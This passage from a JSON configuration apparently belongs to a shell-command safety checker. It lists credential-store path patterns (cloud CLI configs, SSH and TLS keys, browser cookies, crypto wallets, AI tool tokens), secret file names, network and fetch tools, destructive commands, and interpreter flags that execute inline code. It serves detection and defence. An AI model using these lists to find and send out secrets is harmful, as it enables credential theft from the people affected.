-,"csv","tf","proto","ex","exs","scala","cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","jus\
-tfile","dockerfile","gemfile","rakefile","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\
-\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.kube/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\
-\\\\.config/sops|\\\\.config/glab-cli|\\\\.config/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.js\
-on|\\\\.config/configstore|\\\\.heroku/netrc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\
-\\.config/composer/auth\\\\.json|\\\\.composer/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\
-\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supabase/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.a\
-uth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/config\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databric\
-kscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.huggingface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\
-\\\\.cargo/credentials[^/]*|\\\\.gem/credentials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\
-\\\\.local/share/keyrings|\\\\.local/share/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|c\
-hrome/default|chrome/profile[^/]*|chromium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|google-chrom\
-e[^/]*/[^/]*/cookies|chromium/[^/]*/cookies|brave-browser/[^/]*/cookies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\.ethereum/keys\
-tore|\\\\.bitcoin|\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|\
-etc/kubernetes/pki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/arch\
-ive|var/lib/sss/db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credent\
-ials.json","secrets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget\
-","aria2c","http","https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","k\
-dig","nc","ncat","netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","l\
-n","install"],"killers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","rea\
-darray","dd","split","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","\
-zsh","ash","fish","python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","\
-reboot","scrub","shutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pic\
-k","revert","am"],"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","\
-u","user","name","p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q"\
-,"quiet"],"body_options":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":["access","add","app\
-rove-builds","audit","autoclean","bin","cache","cat-file","cat-index","check","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor"\
-,"env","exec","explain","fetch","find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","import","info","init","install","install-test"\
-,"it","licenses","link","list","ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies",\
-"profile","prune","publish","rb","rebuild","recursive","remove","rm","root","run","run-script","search","self-update","selfupdate","server","set","setup","stage\
-","start","stop","store","tag","team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","w\
-hoami","why","with","workspace","workspaces"],"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait","exit","return"\
-,"cp","mv","ln"],"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted"\
-,"blkdiscard","truncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh\
-","git","find","xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","killall","pkill","sh\
-utdown","reboot","halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","ufw","mount","u\
-mount","docker","kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modprobe","sysctl"]\
-,"non_runners":["echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp",\
-"comm","patch","ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whatis","man","info"\
-,"help","apropos","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","unset","set","s\
-hift","read","local","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rustc","rustup","g\
-o","gem","bundle","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","fla\
-tpak","zypper","emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat","ssh","scp","sf\
-tp","rsync","ftp","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","prettier","vim","vi\
-","nvim","nano","emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","gcc","g++","clang","\
-lua","Rscript","date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs","fg","bg","wa\
-it","sleep","seq","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd","od","hexdump",\
-"strings","column","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","service","journalctl\
-","dmesg","mount","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel","usermod","pas\
-swd","crontab","dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","sh","bash","das\
-h","zsh","ksh","eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin","fzf","bat","\
-exa","eza","fd","dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","column","paste","joi\
-n","expand","unexpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","un\
-zstd","lz4","m4","cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc\
-","dc","shuf","look","comm","tsort","ptx","nkf","cut","base32"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python",\
-"code":["c"],"module":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython3":{"short":"c\
-mWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","require","import","loader\
-","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-d\
-ir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporte\
-r-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"nodejs":{"short":"eprC","lo\
-ng":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir",\
-"openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","te\
-st-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"check\
-s":["c","check"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","c\
-onfig","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-lim\
-it","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascr\
-ipt","code":["e","p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","con\
-ditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","repo\
-rt-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","p\
-reload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{"short":"eprC","long":["eval","print","requir\
-e","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-\
-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-repo\
-rter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"deno":{"\
-short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title\
-","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections"\
-,"watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval\
-","print"],"checks":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-fi\
-le-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap",\
-"stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","la\
-nguage":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"perl","code":["e","E"],"checks":["c","MO=Depars\
-e","MO=Concise","MO=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"\
-ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","r\
-akefile"],"operands":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","p\
-rocess-end","process-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"\
-files":["f","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","c\
-ode":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","l\
-oad","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator\
-","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl"\
-,"long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"\
-code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language"\
-:"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","userna\
-me","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short"\
-:"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":\
-["e","execute","init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":\
-["cmd"],"files":["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","lo\
-ng":["cmd","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"data\
-base then code"},"influx":{"long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code\
-":["execute"],"operands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permut\
-ed":true,"language":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set\
-","variable"],"permuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","da\
-tabase","file","set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["que\
-ry","host","port","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"sho\
-rt":"qhud","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"o\
-perands":"no code"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"la\
-nguage":"sql","code":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file"\
-,"set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username\
-","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","usern\
-ame","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},\
-"mongosh":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["ev\
-al"],"files":["f","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"}\
-,"valkey-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language\
-":"sql","files":["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language\
-":"sql","files":["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","\
-execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog"\
-,"schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","lon\
-g":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{\
-"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"be\
-eline":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no co\
-de"},"spark-sql":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operan\
-ds":"no code"},"impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":\
-["f","query_file"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sq\
-l","code":["c","command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"per\
-muted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","user\
-name","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["exe\
-cute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execut\
-e","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"\
-],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connectio\
-n"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"\
-],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"l\
-anguage":"ruby","operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","comma\
-nd"]},"django-admin":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd\
-","after":["shell"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":\
-["shell"],"language":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"\
-],"language":"python","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval\
-","eval","ev","php:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"co\
-de"},"wp":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"a\
-fter":["eval","shell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","t\
-ype","host","other-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"built\
-in":{},"pkexec":{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"\
-skip":1},"taskset":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1\
-},"env":{"short":"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"\
-dotenv":{"short":"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmyda\
-ta":{},"ccache":{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":\
-"n","long":["adjustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"shor\
-t":"sk","long":["signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"st\
-race":{"short":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","expo\
-rt-json","export-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"shor\
-t":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"shor\
-t":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh\
-":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip\
-":1,"code":["c","command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","gro\
-ups"],"skip":1,"own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["\
-target","setuid","setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"s\
-hort":"pe"},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","l\
-ong":["property","setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long\
-":["what","who","why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","pyth\
-on"]},"su":{"short":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{\
-"short":"cgGswu","long":["command","group","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":\
-99,"code":["c"]}},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"shor\
-t":"","long":["package","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":\
-["dlx","exec"]},"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":""\
-,"long":[],"after":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"aft\
-er":["exec"]},"asdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"]\
-,"after":["run"]},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":\
-"","long":["spec"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short\
-":"","long":[],"after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after"\
-:["run"]},"hatch":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical\
-":{"short":"","long":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short\
-":"ares","long":["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"",\
-"long":[],"after":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"s\
-hort":"","long":[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]}\
-,"vagrant":{"short":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["foral\
-l"]}},"small_languages":{"lua":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"sho\
-rt":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dial\
-ect":"lua"},"lua5.4":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[\
-],"code":["e"],"dialect":"r"},"julia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"di\
-alect":"tcl"},"wish":{"short":"","long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"\
-code":["eval","e"],"dialect":"lisp"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"co\
-de":["c","e","eval","x"],"dialect":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["\
-eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","\
-long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"shor\
-t":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elix\
-ir":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"shor\
-t":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long\
-":["eval"],"code":["eval"],"dialect":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"shor\
-t":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialec\
-t":"octave"},"ghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"\
-e","long":[],"code":["e"],"dialect":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["\
-e","c"],"dialect":"named"},"amm":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"\
-},"swift":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal\
-":{"short":"e","long":[],"code":["e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect"\
-:"named"},"rust-script":{"short":"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"\
-},"v":{"short":"","long":[],"dialect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"\
-},"java":{"short":"","long":[],"dialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short"\
